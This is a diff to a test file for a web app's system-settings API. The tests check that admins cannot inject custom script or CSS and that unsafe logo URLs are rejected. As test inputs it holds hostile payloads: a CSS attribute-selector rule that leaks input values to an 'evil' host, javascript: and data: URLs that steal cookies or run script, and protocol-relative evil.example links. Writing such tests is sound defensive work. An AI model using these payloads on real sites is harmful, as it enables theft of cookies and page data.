@@ -110,14 +110,20 @@ describe("POST /api/system/setting", () => {
     expect((await anonymous(t).get("/api/status")).body.data.allowSignUp).toBe(true);
   });
 
-  it("additionalScript is the host's alone: it runs in the host's browser too", async () => {
+  it("additionalScript and additionalStyle are the host's alone: they reach the host's browser too", async () => {
     const host = await signUpHost(t);
     const admin = await createUser(t, host, "anadmin", "ADMIN");
     expectError(await setting(admin, "additionalScript", "fetch('/api/user/1', {method: 'PATCH'})"), 403);
-    expect((await anonymous(t).get("/api/status")).body.data.additionalScript).toBe("");
-    expect((await setting(admin, "additionalStyle", "body{}")).status).toBe(200);
+    // CSS alone can exfiltrate what a page shows (attribute selectors with background URLs).
+    expectError(await setting(admin, "additionalStyle", "input[value^=a]{background:url(//evil/a)}"), 403);
+    const status = (await anonymous(t).get("/api/status")).body.data;
+    expect([status.additionalScript, status.additionalStyle]).toEqual(["", ""]);
     expect((await setting(host, "additionalScript", "console.log(1)")).status).toBe(200);
-    expect((await anonymous(t).get("/api/status")).body.data.additionalScript).toBe("console.log(1)");
+    expect((await setting(host, "additionalStyle", "body{}")).status).toBe(200);
+    const after = (await anonymous(t).get("/api/status")).body.data;
+    expect([after.additionalScript, after.additionalStyle]).toEqual(["console.log(1)", "body{}"]);
+    // The other settings stay open to admins.
+    expect((await setting(admin, "allowSignUp", true)).status).toBe(200);
   });
 
   it.each([
@@ -135,6 +141,13 @@ describe("POST /api/system/setting", () => {
     ["customizedProfile", '{"locale": "xx"}'],
     ["customizedProfile", '{"appearance": "blue"}'],
     ["customizedProfile", '{"name": 5}'],
+    ["customizedProfile", '{"logoUrl": "javascript:alert(document.cookie)"}'],
+    ["customizedProfile", '{"logoUrl": "JavaScript:alert(1)"}'],
+    ["customizedProfile", '{"logoUrl": "data:text/html,<script>alert(1)</script>"}'],
+    ["customizedProfile", '{"logoUrl": "data:image/svg+xml;base64,PHN2Zy8+"}'],
+    ["customizedProfile", '{"logoUrl": "//evil.example/logo.png"}'],
+    ["customizedProfile", '{"logoUrl": "/\\\\evil.example/logo.png"}'],
+    ["customizedProfile", '{"logoUrl": "vbscript:x"}'],
     ["serverId", '"11111111-1111-1111-1111-111111111111"'],
     ["secretSessionName", '"stolen"'],
     ["somethingElse", "true"],
@@ -143,6 +156,26 @@ describe("POST /api/system/setting", () => {
     const before = await t.ctx.store.db.selectFrom("system_setting").selectAll().orderBy("name").execute();
     expectError(await setting(host, name, value, true), 400, /^system setting invalidate/);
     expect(await t.ctx.store.db.selectFrom("system_setting").selectAll().orderBy("name").execute()).toEqual(before);
+  });
+
+  it.each([
+    "https://cdn.example.com/logo.png",
+    "http://intranet.local/logo.svg",
+    "/o/r/1/logo.png",
+    "data:image/png;base64,iVBORw0KGgo=",
+    "",
+  ])("accepts the logo %j", async (logoUrl) => {
+    const host = await signUpHost(t);
+    expect((await setting(host, "customizedProfile", { name: "Mine", logoUrl })).status).toBe(200);
+    expect((await anonymous(t).get("/api/status")).body.data.customizedProfile.logoUrl).toBe(logoUrl);
+  });
+
+  it("never serves an unsafe logo stored before the rule existed", async () => {
+    await signUpHost(t);
+    const value = JSON.stringify({ name: "Old", logoUrl: "javascript:alert(1)" });
+    await t.ctx.store.db.insertInto("system_setting").values({ name: "customizedProfile", value, description: "" }).execute();
+    const profile = (await anonymous(t).get("/api/status")).body.data.customizedProfile;
+    expect(profile).toMatchObject({ name: "Old", logoUrl: "" });
   });
 
   it("names the reason for internal keys", async () => {
